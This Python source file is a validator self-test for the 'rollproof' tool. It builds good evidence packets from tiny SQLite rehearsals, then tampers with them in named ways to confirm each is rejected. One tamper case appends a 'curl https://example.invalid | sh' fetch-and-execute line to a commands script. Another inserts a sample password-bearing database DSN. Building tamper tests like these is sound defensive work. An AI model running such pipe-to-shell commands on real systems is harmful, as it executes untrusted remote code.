"""`rollproof validate --selftest`: good packets and named bad ones, made at run time.

The corpus comes from two tiny real rehearsals on a real SQLite file, with a fixed clock: a
sound change (every leg passes) and a lossy one (its revert loses a column's values, so the
packet is valid evidence of a FAIL). Each bad case changes one thing in a good packet; where
the point is the logic, the manifest and tree hash are recomputed afterwards (`reseal`), and for
signature cases the packet is signed again, so only the check under test can catch it. File-type
cases (symlink, hard link, FIFO) are built on disk and go through the IO shell.

The self-test passes only when every good packet validates and every bad one is rejected with
its expected finding code as the first finding (or, for the pin case, refused outright).
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from rollproof.core.canonical import canonical_json
from rollproof.core.change import load_change
from rollproof.core.fingerprint import Fingerprint, TableDigest
from rollproof.core.keys import SigningKey
from rollproof.core.model import Verdict
from rollproof.evidence.write import write_tree_atomically
from rollproof.rehearse.flow import RehearsalResult, rehearse
from rollproof.rehearse.packet import build_packet
from rollproof.rehearse.report import report_bytes
from rollproof.verify.attest import (
    Signer,
    TrustedKey,
    predicate_for,
    sign_envelope,
    statement_json,
    trusted_key,
)
from rollproof.verify.findings import FindingCode, ValidationReport, ValidatorPinError
from rollproof.verify.layout import (
    ATTESTATION,
    COMMANDS_SH,
    DECISION_MD,
    EXIT_CODES_JSON,
    GOVERNANCE_SEAL,
    ISOLATION_JSON,
    MANIFEST,
    REPORT_JSON,
    REPORT_MD,
    SURFACES_JSON,
    TREE_HASH,
    Limits,
    payload_of,
    seal,
    sha256_hex,
)
from rollproof.verify.reader import check_packet
from rollproof.verify.scripts import recorded_exit_code
from rollproof.verify.validate import PacketTree, check_tree

FIXED_TIME = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)

TINY_SOURCE = """
CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL, qty INTEGER);
INSERT INTO items (name, qty) VALUES ('bolt', 10), ('nut', 20), ('washer', 30);
"""

SOUND_CHANGE = {
    "change.toml": (
        'id = "add-item-note"\napply = "apply.sql"\nrevert = "revert.sql"\n'
        'verify = "verify.sql"\n\n[surfaces]\nreads = []\nwrites = ["items"]\n'
    ),
    "apply.sql": (
        "ALTER TABLE items ADD COLUMN note TEXT;\nUPDATE items SET note = 'x' WHERE id = 1;\n"
    ),
    "revert.sql": "ALTER TABLE items DROP COLUMN note;\n",
    "verify.sql": "SELECT count(*) FROM items;\n",
}
LOSSY_CHANGE = {
    "change.toml": (
        'id = "drop-item-qty"\napply = "apply.sql"\nrevert = "revert.sql"\n\n'
        '[surfaces]\nreads = []\nwrites = ["items"]\n'
    ),
    "apply.sql": "ALTER TABLE items DROP COLUMN qty;\n",
    "revert.sql": "ALTER TABLE items ADD COLUMN qty INTEGER;\n",
}


def build_tiny_source(path: Path) -> Path:
    """A three-row SQLite database at `path` (which must not exist)."""
    conn = sqlite3.connect(path)
    try:
        conn.executescript(TINY_SOURCE)
        conn.commit()
    finally:
        conn.close()
    return path


def write_change(directory: Path, files: Mapping[str, str]) -> Path:
    directory.mkdir(parents=True)
    for name, text in files.items():
        (directory / name).write_text(text, encoding="utf-8")
    return directory


def fixed_clock() -> datetime:
    return FIXED_TIME


def tiny_rehearsal(source: Path, change_dir: Path) -> RehearsalResult:
    return rehearse(load_change(change_dir), f"sqlite:///{source}", clock=fixed_clock)


# -- editing packets -------------------------------------------------------------------------

Files = dict[str, bytes]


def reseal(files: Mapping[str, bytes], *, keep_attestation: bool = False) -> Files:
    """Recompute MANIFEST.json and TREE_HASH over the payload (dropping any attestation unless
    asked to keep it): the packet then passes every file-level check."""
    out = seal(payload_of(files))
    if keep_attestation and ATTESTATION in files:
        out[ATTESTATION] = files[ATTESTATION]
    return out


def sign(files: Mapping[str, bytes], key: Signer, **predicate: Any) -> Files:
    """Reseal and sign again with `key`; keyword arguments are added to the predicate."""
    out = reseal(files)
    report = json.loads(out[REPORT_JSON])
    exit_code = recorded_exit_code(json.loads(out[EXIT_CODES_JSON]))
    statement = statement_json(
        sha256_hex(out[MANIFEST]),
        out[TREE_HASH].decode("ascii").strip(),
        {**predicate_for(report, exit_code), **predicate},
    )
    out[ATTESTATION] = sign_envelope(statement, key)
    return out


def edit_report(files: Mapping[str, bytes], change: Callable[[dict[str, Any]], None]) -> Files:
    """Apply `change` to report.json's content, rewrite it as rollproof does (isolation.json
    and surfaces.json too, so they agree with it), reseal."""
    report = json.loads(files[REPORT_JSON])
    change(report)
    return reseal(
        {
            **files,
            REPORT_JSON: report_bytes(report),
            ISOLATION_JSON: canonical_json(report.get("isolation")),
            SURFACES_JSON: canonical_json(report.get("surfaces")),
        }
    )


def edit_canonical(files: Mapping[str, bytes], path: str, change: Callable[[Any], None]) -> Files:
    """Apply `change` to a canonical JSON file's content, rewrite it canonically, reseal."""
    doc = json.loads(files[path])
    change(doc)
    return reseal({**files, path: canonical_json(doc)})


def flip_byte(data: bytes, index: int) -> bytes:
    return data[:index] + bytes([data[index] ^ 0x01]) + data[index + 1 :]


def leg(report: dict[str, Any], name: str) -> dict[str, Any]:
    return next(x for x in report["legs"] if x["name"] == name)


def governance_layer(
    files: Mapping[str, bytes],
    *,
    edit_decision: Callable[[dict[str, Any]], None] | None = None,
) -> Files:
    """`files` plus a governance layer as a governed run writes it, derived from an empty
    ledger and the default ladder (decision: HOLD first and default; APPLY_NOW=NO)."""
    from rollproof.core.policy import DEFAULT_GATES, DEFAULT_LANES, Governance
    from rollproof.governance.decision import decision_packet
    from rollproof.governance.state import fold
    from rollproof.verify.governance_layer import ADDENDUM_SCHEMA, checkpoint_title, layer_files

    tree = files[TREE_HASH].decode("ascii").strip()
    report = json.loads(files[REPORT_JSON])
    change_id = report["change"]["id"]
    gov = Governance("", Path(), None, {}, DEFAULT_LANES, DEFAULT_GATES)
    state = fold(())
    lane = DEFAULT_LANES[0].name
    decision = decision_packet(
        gov,
        state,
        change_id=change_id,
        lane=lane,
        packet_tree_hash=tree,
        overall=Verdict(report["overall"]),
        now=FIXED_TIME,
    )
    if edit_decision is not None:
        edit_decision(decision)
    addendum = {
        "schema": ADDENDUM_SCHEMA,
        "change_id": change_id,
        "lane": lane,
        "packet_tree_hash": tree,
        "ledger": {"from": 1, "through": 1, "head": "0" * 64},
        "grant_id": None,
        "tickets": {"range": None, "ids": []},
        "discharged": [],
        "apply_now": "NO",
    }
    checkpoint = checkpoint_title(change_id, "2026-01-02") + "\n\n(self-test)\n"
    return {**files, **layer_files(decision, addendum, checkpoint, tree)}


def _reseal_layer(c: Corpus, path: str, data: bytes) -> Files:
    """The governed packet with one layer file replaced and the layer sealed again."""
    from rollproof.verify.governance_layer import seal_json

    layer = {p: d for p, d in c.governed.items() if p.startswith("governance/")}
    layer[path] = data
    tree = c.governed[TREE_HASH].decode("ascii").strip()
    return {**c.governed, **layer, GOVERNANCE_SEAL: seal_json(layer, tree)}


def _seal_other_tree(c: Corpus) -> Files:
    doc = json.loads(c.governed[GOVERNANCE_SEAL])
    doc["tree_hash"] = "0" * 64
    return {**c.governed, GOVERNANCE_SEAL: canonical_json(doc)}


def _decision_defaults_to_proceed(c: Corpus) -> Files:
    def edit(decision: dict[str, Any]) -> None:
        decision["default"] = "PROCEED"

    return governance_layer(c.sound, edit_decision=edit)


def _decision_other_change(c: Corpus) -> Files:
    def edit(decision: dict[str, Any]) -> None:
        decision["change_id"] = "another-change"

    return governance_layer(c.sound, edit_decision=edit)


# -- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Corpus:
    sound: Files
    lossy: Files
    signed: Files
    governed: Files
    key: SigningKey
    trusted: TrustedKey
    stranger: TrustedKey
    workdir: Path
    results: Mapping[str, RehearsalResult] = field(repr=False)


def build_corpus(workdir: Path) -> Corpus:
    """Run the two tiny rehearsals under `workdir` and build the good packets."""
    workdir.mkdir(parents=True, exist_ok=True)
    source = build_tiny_source(workdir / "source.db")
    sound = tiny_rehearsal(
        source, write_change(workdir / "changes" / "add-item-note", SOUND_CHANGE)
    )
    lossy = tiny_rehearsal(
        source, write_change(workdir / "changes" / "drop-item-qty", LOSSY_CHANGE)
    )
    key = SigningKey.from_private(Ed25519PrivateKey.generate())
    return Corpus(
        sound=build_packet(sound),
        lossy=build_packet(lossy),
        signed=build_packet(sound, signing_key=key),
        governed=governance_layer(build_packet(sound)),
        key=key,
        trusted=TrustedKey(key.public.raw),
        stranger=trusted_key(Ed25519PrivateKey.generate().public_key()),
        workdir=workdir,
        results={"sound": sound, "lossy": lossy},
    )


@dataclass(frozen=True, slots=True)
class Case:
    """One corpus entry. `expected` None means the packet must validate. `build` returns the
    packet's files (in memory); `on_disk` instead mutates a written copy of the sound packet."""

    name: str
    expected: FindingCode | None
    build: Callable[[Corpus], Mapping[str, bytes]] | None = None
    on_disk: Callable[[Path, Path], None] | None = None
    signed: bool = False  # validate with the corpus key trusted and a signature required
    stranger: bool = False  # ...but trusting another key
    limits: Limits | None = None


def _manifest_entry_outside(c: Corpus) -> Files:
    sealed = seal({**payload_of(c.sound), "../outside.txt": b"outside\n"})
    del sealed["../outside.txt"]  # a manifest naming a file outside the packet
    return sealed


def _duplicate_manifest_key(c: Corpus) -> Files:
    return {**c.sound, MANIFEST: b'{"schema":"x",' + c.sound[MANIFEST][1:]}


def _report_text(c: Corpus, old: bytes, new: bytes) -> Files:
    body = c.sound[REPORT_JSON]
    assert old in body
    return reseal({**c.sound, REPORT_JSON: body.replace(old, new, 1)})


def _size_off_by_one(c: Corpus) -> Files:
    doc = json.loads(c.sound[MANIFEST])
    doc["files"][0]["size"] += 1
    return {**c.sound, MANIFEST: canonical_json(doc)}


def _forged_fingerprint(c: Corpus) -> Files:
    path = next(p for p in c.sound if p.startswith("fingerprints/"))
    doc = json.loads(c.sound[path])
    table = next(iter(doc["tables"]))
    doc["tables"][table]["digest"] = "blake3:" + "0" * 64  # digest field left as it was
    return reseal({**c.sound, path: canonical_json(doc)})


def _unreferenced_fingerprint(c: Corpus) -> Files:
    fp = c.results["sound"].source_fingerprint
    tables = dict(fp.tables)
    name = next(iter(tables))
    tables[name] = TableDigest(name, "blake3:" + "1" * 64, tables[name].rows, tables[name].order)
    other = Fingerprint(
        fp.engine,
        fp.schema_structural,
        fp.schema_ddl_text,
        fp.schema_objects,
        tables,
        fp.sequences,
        fp.excluded,
    )
    rel = f"fingerprints/{other.digest.removeprefix('sha256:')}.json"
    return reseal({**c.sound, rel: canonical_json(other.to_json())})


def _missing_fingerprint(c: Corpus) -> Files:
    report = json.loads(c.sound[REPORT_JSON])
    digest = leg(report, "transaction")["fingerprints"]["after_apply"].removeprefix("sha256:")
    return reseal({p: d for p, d in c.sound.items() if p != f"fingerprints/{digest}.json"})


def _fabricated_no_mutation(report: dict[str, Any]) -> None:
    t = leg(report, "transaction")
    t["fingerprints"]["after_apply"] = t["fingerprints"]["before"]


def _pass_over_difference(report: dict[str, Any]) -> None:
    r = leg(report, "revert")
    r.update(verdict="PASS", reason=None, differences=[])
    for inv in r["invariants"]:
        inv["holds"] = True


def _failed_isolation_check(c: Corpus) -> Files:
    def change(report: dict[str, Any]) -> None:
        report["isolation"]["checks"][0]["holds"] = False

    return edit_report(c.sound, change)


def _disk_symlink(packet: Path, outside: Path) -> None:
    copy = outside / "report.md"
    copy.write_bytes((packet / REPORT_MD).read_bytes())
    (packet / REPORT_MD).unlink()
    (packet / REPORT_MD).symlink_to(copy)


def _disk_hardlink(packet: Path, outside: Path) -> None:
    os.link(packet / REPORT_MD, outside / "second-name.md")


def _disk_fifo(packet: Path, outside: Path) -> None:
    (packet / REPORT_MD).unlink()
    os.mkfifo(packet / REPORT_MD)


def _wrong_signature(c: Corpus) -> Files:
    env = json.loads(c.signed[ATTESTATION])
    import base64

    sig = bytearray(base64.b64decode(env["signatures"][0]["sig"]))
    sig[0] ^= 0x01
    env["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode("ascii")
    return {**c.signed, ATTESTATION: canonical_json(env)}


CASES: tuple[Case, ...] = (
    Case("good-sound", None, lambda c: c.sound),
    Case("good-lossy-fail-verdict", None, lambda c: c.lossy),
    Case("good-signed", None, lambda c: c.signed, signed=True),
    Case("limit-file-count", FindingCode.LIMIT_EXCEEDED, lambda c: c.sound, limits=Limits(5)),
    Case(
        "manifest-missing",
        FindingCode.MANIFEST_MISSING,
        lambda c: {p: d for p, d in c.sound.items() if p != MANIFEST},
    ),
    Case("manifest-duplicate-key", FindingCode.MANIFEST_MALFORMED, _duplicate_manifest_key),
    Case("path-dotdot", FindingCode.PATH_UNSAFE, _manifest_entry_outside),
    Case(
        "path-case-collision",
        FindingCode.PATH_CASE_COLLISION,
        lambda c: reseal({**c.sound, "Report.json": c.sound[REPORT_JSON]}),
    ),
    Case(
        "file-missing",
        FindingCode.FILE_MISSING,
        lambda c: {p: d for p, d in c.sound.items() if p != REPORT_MD},
    ),
    Case("file-extra", FindingCode.FILE_EXTRA, lambda c: {**c.sound, "notes.txt": b"hi\n"}),
    Case(
        "file-renamed",
        FindingCode.FILE_RENAMED,
        lambda c: {
            **{p: d for p, d in c.sound.items() if p != REPORT_MD},
            "report.markdown": c.sound[REPORT_MD],
        },
    ),
    Case(
        "file-unknown-resealed",
        FindingCode.FILE_UNKNOWN,
        lambda c: reseal({**c.sound, "notes.txt": b"hi\n"}),
    ),
    Case("symlink", FindingCode.SYMLINK, on_disk=_disk_symlink),
    Case("hardlink", FindingCode.HARDLINK, on_disk=_disk_hardlink),
    Case("fifo", FindingCode.SPECIAL_FILE, on_disk=_disk_fifo),
    Case("size-mismatch", FindingCode.SIZE_MISMATCH, _size_off_by_one),
    Case(
        "byte-flipped",
        FindingCode.SHA256_MISMATCH,
        lambda c: {**c.sound, REPORT_MD: flip_byte(c.sound[REPORT_MD], 3)},
    ),
    Case(
        "tree-hash-wrong",
        FindingCode.TREE_HASH_MISMATCH,
        lambda c: {**c.sound, TREE_HASH: (sha256_hex(b"another tree") + "\n").encode("ascii")},
    ),
    Case(
        "json-duplicate-key",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'{\n  "change"', b'{\n  "overall": "PASS",\n  "change"'),
    ),
    Case(
        "json-nan",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'"no_mutation": false', b'"no_mutation": NaN'),
    ),
    Case(
        "json-lone-surrogate",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'"summary": "', b'"summary": "\\ud800'),
    ),
    Case(
        "json-trailing-data",
        FindingCode.JSON_INVALID,
        lambda c: reseal({**c.sound, REPORT_JSON: c.sound[REPORT_JSON] + b"{}\n"}),
    ),
    Case(
        "json-not-canonical",
        FindingCode.JSON_NOT_CANONICAL,
        lambda c: reseal(
            {
                **c.sound,
                ISOLATION_JSON: json.dumps(json.loads(c.sound[ISOLATION_JSON]), indent=1).encode(),
            }
        ),
    ),
    Case(
        "report-unknown-field",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: edit_report(c.sound, lambda r: r.update(verified_by="me")),
    ),
    Case(
        "report-version-unknown",
        FindingCode.REPORT_VERSION_UNKNOWN,
        lambda c: edit_report(c.sound, lambda r: r.update(schema="rollproof/report/v2")),
    ),
    Case(
        "isolation-json-differs",
        FindingCode.DETAIL_FILE_MISMATCH,
        lambda c: edit_canonical(
            c.sound, ISOLATION_JSON, lambda d: d["checks"][0].update(evidence="trust me")
        ),
    ),
    Case("fingerprint-forged", FindingCode.FINGERPRINT_INVALID, _forged_fingerprint),
    Case(
        "secret-in-dsn",
        FindingCode.SECRET_PRESENT,
        lambda c: edit_report(
            c.sound, lambda r: r["source"].update(dsn="postgresql://app:hunter2@db/prod")
        ),
    ),
    Case(
        "content-id-forged",
        FindingCode.CONTENT_ID_MISMATCH,
        lambda c: edit_report(c.sound, lambda r: r["change"].update(no_mutation=True)),
    ),
    Case(
        "change-copy-altered",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: reseal({**c.sound, "change/revert.sql": b"SELECT 1;\n"}),
    ),
    Case(
        "fingerprint-unreferenced", FindingCode.FINGERPRINT_UNREFERENCED, _unreferenced_fingerprint
    ),
    Case("fingerprint-missing", FindingCode.FINGERPRINT_MISSING, _missing_fingerprint),
    Case(
        "legs-out-of-order",
        FindingCode.LEGS_MALFORMED,
        lambda c: edit_report(c.sound, lambda r: r["legs"].reverse()),
    ),
    Case(
        "fabricated-no-mutation",
        FindingCode.NO_MUTATION_FABRICATED,
        lambda c: edit_report(c.sound, _fabricated_no_mutation),
    ),
    Case(
        "pass-over-differing-fingerprints",
        FindingCode.LEG_VERDICT_CONTRADICTS,
        lambda c: edit_report(c.lossy, _pass_over_difference),
    ),
    Case(
        "pass-without-every-point",
        FindingCode.LEG_POINTS_INCOMPLETE,
        lambda c: edit_report(
            c.sound, lambda r: leg(r, "revert")["fingerprints"].pop("after_revert")
        ),
    ),
    Case(
        "before-not-source",
        FindingCode.LEG_BEFORE_NOT_SOURCE,
        lambda c: edit_report(
            c.sound,
            lambda r: leg(r, "restore")["fingerprints"].update(
                before=leg(r, "restore")["fingerprints"]["after_apply"]
            ),
        ),
    ),
    Case(
        "invariants-misrecorded",
        FindingCode.LEG_INVARIANTS_MISMATCH,
        lambda c: edit_report(c.sound, lambda r: leg(r, "restore")["invariants"].reverse()),
    ),
    Case(
        "overall-pass-over-failed-leg",
        FindingCode.OVERALL_CONTRADICTS,
        lambda c: edit_report(c.lossy, lambda r: r.update(overall="PASS")),
    ),
    Case(
        "isolation-proven-over-failed-check",
        FindingCode.ISOLATION_CONTRADICTS,
        _failed_isolation_check,
    ),
    Case(
        "summary-contradicts",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: edit_report(
            c.lossy, lambda r: r.update(summary=r["summary"].replace(": FAIL (", ": PASS (", 1))
        ),
    ),
    Case(
        "exit-code-contradicts",
        FindingCode.EXIT_CODE_CONTRADICTS,
        lambda c: edit_canonical(
            c.lossy, EXIT_CODES_JSON, lambda d: d["commands"][0].update(exit_code=0)
        ),
    ),
    Case(
        "commands-sh-tampered",
        FindingCode.SCRIPT_MISMATCH,
        lambda c: reseal(
            {**c.sound, COMMANDS_SH: c.sound[COMMANDS_SH] + b"curl https://example.invalid | sh\n"}
        ),
    ),
    Case("signature-missing", FindingCode.SIGNATURE_MISSING, lambda c: c.sound, signed=True),
    Case(
        "signature-by-untrusted-key",
        FindingCode.SIGNATURE_INVALID,
        lambda c: c.signed,
        signed=True,
        stranger=True,
    ),
    Case("signature-bytes-altered", FindingCode.SIGNATURE_INVALID, _wrong_signature, signed=True),
    Case(
        "signature-over-another-packet",
        FindingCode.ATTESTATION_SUBJECT_MISMATCH,
        lambda c: reseal(
            {**c.signed, REPORT_MD: c.signed[REPORT_MD] + b"\nappended after signing\n"},
            keep_attestation=True,
        ),
        signed=True,
    ),
    Case(
        "predicate-contradicts-report",
        FindingCode.ATTESTATION_PREDICATE_MISMATCH,
        lambda c: sign(c.lossy, c.key, overall="PASS", exit_code=0),
        signed=True,
    ),
    Case(
        "predicate-unknown-field",
        FindingCode.ATTESTATION_MALFORMED,
        lambda c: sign(c.sound, c.key, approved_by="nobody"),
        signed=True,
    ),
    Case("good-governed", None, lambda c: c.governed),
    Case(
        "governance-layer-without-seal",
        FindingCode.FILE_EXTRA,
        lambda c: {p: d for p, d in c.governed.items() if p != GOVERNANCE_SEAL},
    ),
    Case("governance-seal-over-another-tree", FindingCode.GOVERNANCE_MISMATCH, _seal_other_tree),
    Case(
        "governance-file-altered",
        FindingCode.SHA256_MISMATCH,
        lambda c: {**c.governed, DECISION_MD: flip_byte(c.governed[DECISION_MD], 3)},
    ),
    Case(
        "governance-decision-defaults-to-proceed",
        FindingCode.SCHEMA_VIOLATION,
        _decision_defaults_to_proceed,
    ),
    Case(
        "governance-decision-md-not-rendered",
        FindingCode.GOVERNANCE_MISMATCH,
        lambda c: _reseal_layer(c, DECISION_MD, c.governed[DECISION_MD] + b"\nPROCEED now\n"),
    ),
    Case(
        "governance-decision-other-change", FindingCode.GOVERNANCE_MISMATCH, _decision_other_change
    ),
)

PIN_CASE = "validator-pin-mismatch"


@dataclass(frozen=True, slots=True)
class CaseResult:
    name: str
    expected: str
    got: str
    ok: bool


def run_case(case: Case, corpus: Corpus, scratch: Path) -> CaseResult:
    trusted = (corpus.stranger if case.stranger else corpus.trusted,) if case.signed else ()
    options: dict[str, Any] = {"trusted_keys": trusted, "require_signature": case.signed}
    if case.limits is not None:
        options["limits"] = case.limits
    if case.on_disk is not None:
        packet = scratch / case.name / "packet"
        outside = scratch / case.name / "outside"
        outside.mkdir(parents=True)
        write_tree_atomically(packet, corpus.sound)
        case.on_disk(packet, outside)
        report: ValidationReport = check_packet(packet, **options)
    else:
        assert case.build is not None
        report = check_tree(PacketTree.from_files(case.build(corpus)), **options)
    expected = "valid" if case.expected is None else str(case.expected)
    got = "valid" if report.ok else str(report.findings[0].code)
    return CaseResult(
        case.name,
        expected,
        got + ("" if report.ok else f" ({report.findings[0]})"),
        got == expected,
    )


def run_pin_case(corpus: Corpus, scratch: Path) -> CaseResult:
    packet = scratch / PIN_CASE
    write_tree_atomically(packet, corpus.sound)
    try:
        check_packet(packet, expect_validator="0" * 64)
    except ValidatorPinError as e:
        return CaseResult(PIN_CASE, "refused", f"refused ({e})", True)
    return CaseResult(PIN_CASE, "refused", "a verdict was given", False)


def run_selftest(workdir: Path) -> list[CaseResult]:
    """Build the corpus under `workdir` and run every case."""
    corpus = build_corpus(workdir / "corpus")
    scratch = workdir / "cases"
    scratch.mkdir()
    results = [run_case(case, corpus, scratch) for case in CASES]
    results.append(run_pin_case(corpus, scratch))
    return results
